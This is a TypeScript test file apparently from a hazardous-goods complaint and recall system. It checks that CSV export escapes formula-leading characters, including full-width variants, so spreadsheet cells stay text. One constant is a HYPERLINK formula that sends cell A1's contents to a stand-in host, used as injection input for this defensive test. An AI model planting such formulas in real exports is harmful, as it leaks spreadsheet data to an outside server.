import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import iconv from 'iconv-lite';
import { afterAll, expect, test } from 'vitest';
import { csvCell, csvLiteral, csvQuoted } from '../../schema/csv-cell.ts';
import { fileComplaints } from '../../subgraphs/hazardous-goods/complaints.ts';
import { fileOrders } from '../../subgraphs/hazardous-goods/orders.ts';
import { call } from '../support/stand-in.ts';

const folder = mkdtempSync(join(tmpdir(), 'cells-'));
afterAll(() => rmSync(folder, { recursive: true, force: true }));
const LINK = '=HYPERLINK("http://x.example/?"&A1)';

test('what a spreadsheet would run is a text, a number is a number', () => {
  for (const begin of ['=', '+', '-', '@', '\t', '＝', '＋', '－', '＠'])
    expect(csvCell(`${begin}A1`)).toBe(`'${begin}A1`);
  expect(csvCell('\rx')).toBe('"\'\rx"');
  for (const number of ['-3', '+8613800000000', '-2.50', '-1e-7', '12']) expect(csvCell(number)).toBe(number);
  expect([csvLiteral('-3'), csvLiteral('12')]).toEqual(["'-3", '12']);
  expect(csvCell('a "b", =c')).toBe('"a ""b"", =c"');
  expect(csvQuoted('=A1')).toBe('=A1');
});

test('nothing that people write is a formula in the files that are dropped', async () => {
  const at = '2026-11-30T08:00:00+08:00';
  const read = (name: string | null): string => iconv.decode(readFileSync(join(folder, name ?? '')), 'gb18030');
  const complaint = { number: 'TS1', code: 'hazlot:1.A', topic: 'LEAK', division: null, boughtAt: null, at } as const;
  const told = await fileComplaints(folder).write({ ...complaint, text: LINK, contact: '@x', photo: null }, call());
  expect(read(told)).toContain(`"'=HYPERLINK(""http://x.example/?""&A1)",'@x,`);
  const order = { number: 'R-1', recall: 'R', action: 'OPEN', codes: ['hazlot:1.A'], level: 'I', authority: '部', at };
  const ordered = await fileOrders(folder).write({ ...order, reason: '-A1', advice: '＝A1' } as never, call());
  expect(read(ordered)).toContain(",'-A1,'＝A1,部");
});
